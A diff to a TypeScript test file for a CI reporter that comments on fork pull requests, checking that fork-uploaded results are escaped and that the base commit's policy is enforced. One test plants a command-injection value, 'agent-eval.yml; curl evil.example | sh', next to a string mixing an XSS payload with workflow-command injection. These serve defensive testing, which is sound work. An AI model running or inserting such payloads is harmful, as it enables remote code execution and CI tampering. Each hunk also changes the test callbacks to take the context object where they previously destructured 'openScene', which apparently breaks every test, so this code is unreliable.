@@ -39,9 +39,7 @@ beforeAll(async () => {
 });
 afterAll(() => rm(nothing, { recursive: true }));
 
-it('a pull request of a fork is commented by the run that reports: judged by our gate, marked as not verified, deciding nothing', async ({
-  openScene,
-}) => {
+it('a pull request of a fork is commented by the run that reports: judged by our gate, marked as not verified, deciding nothing', async (openScene) => {
   const scene = await openScene(SUITE);
   const main = await scene.storeMain();
   const fork = await runOfFork(scene, BROKEN);
@@ -65,7 +63,7 @@ it('a pull request of a fork is commented by the run that reports: judged by our
 });
 
 describe('the one comment', () => {
-  it('is kept up to date; the report on an older run never overwrites it', async ({ openScene }) => {
+  it('is kept up to date; the report on an older run never overwrites it', async (openScene) => {
     const scene = await openScene(SUITE);
     const first = await pullOfFork(scene, stored.broken);
     await report(scene, first);
@@ -83,7 +81,7 @@ describe('the one comment', () => {
   });
 });
 
-it('what a fork can not reach was not run, which its results alone never decide', async ({ openScene }) => {
+it('what a fork can not reach was not run, which its results alone never decide', async (openScene) => {
   const suite = scriptedSuite(
     { one: {}, two: {} },
     {
@@ -107,7 +105,7 @@ it('what a fork can not reach was not run, which its results alone never decide'
   expect(readable(scene.fake.state.comments[0]?.body ?? '')).not.toContain('Agent eval passed');
 });
 
-it('Dependabot has a read-only token in its runs, so it is reported too', async ({ openScene }) => {
+it('Dependabot has a read-only token in its runs, so it is reported too', async (openScene) => {
   const scene = await openScene(SUITE);
   scene.fake.state.token.permissions = READ_ONLY;
   const run = await scene.runPull({}, { pull: { user: DEPENDABOT } });
@@ -119,7 +117,7 @@ it('Dependabot has a read-only token in its runs, so it is reported too', async 
 describe('the policy', () => {
   const floor = (min: number) => ({ gate: { method: 'threshold', pass_rate: { min, max_drop: 1 } } });
 
-  it('is that of the base commit, whatever the fork writes into its config and its results', async ({ openScene }) => {
+  it('is that of the base commit, whatever the fork writes into its config and its results', async (openScene) => {
     const scene = await openScene(scriptedSuite({ one: {}, two: {} }, floor(0.9)));
     const results = JSON.parse(stored.broken);
     results.policy = { hash: 'x', effective: { method: 'threshold', pass_rate: { min: 0 } } };
@@ -132,7 +130,7 @@ describe('the policy', () => {
   });
 });
 
-it('a policy of the base commit that can not be read leaves the results open', async ({ openScene }) => {
+it('a policy of the base commit that can not be read leaves the results open', async (openScene) => {
   const scene = await openScene({ ...SUITE, 'agent-eval.yml': 'version: 1\ngate: {confidence: 7}\n' });
   await report(scene, await pullOfFork(scene, stored.unchanged));
   expect(scene.fake.state.comments[0]?.body).toMatch(
@@ -144,9 +142,7 @@ describe('what a run of a fork has uploaded', () => {
   const HOSTILE =
     'x](https://evil.example/?q=1) <img src=x onerror=1> @octo-org/owners fixes #1 ::error::gone ##[add-mask]a';
 
-  it('is data: its names and texts are escaped, its own comment, commands and verdict are never used', async ({
-    openScene,
-  }) => {
+  it('is data: its names and texts are escaped, its own comment, commands and verdict are never used', async (openScene) => {
     const scene = await openScene(SUITE);
     const forged = JSON.parse(stored.broken);
     forged.config.path = 'agent-eval.yml; curl evil.example | sh';
@@ -167,7 +163,7 @@ describe('what a run of a fork has uploaded', () => {
     expect(result.envFile).toEqual({});
   });
 
-  it('is treated as none, and named, when it is not what it says', async ({ openScene }) => {
+  it('is treated as none, and named, when it is not what it says', async (openScene) => {
     const scene = await openScene(SUITE);
     const run = await pullOfFork(scene, stored.unchanged);
     const { run: facts, ...results } = JSON.parse(stored.unchanged);
@@ -238,9 +234,7 @@ async function report(
   });
 }
 
-it('without the permission to comment the report is a warning that names it, and nothing is red', async ({
-  openScene,
-}) => {
+it('without the permission to comment the report is a warning that names it, and nothing is red', async (openScene) => {
   const scene = await openScene(SUITE);
   const run = await pullOfFork(scene, stored.unchanged);
   const result = await report(scene, run, {}, READ_ONLY);
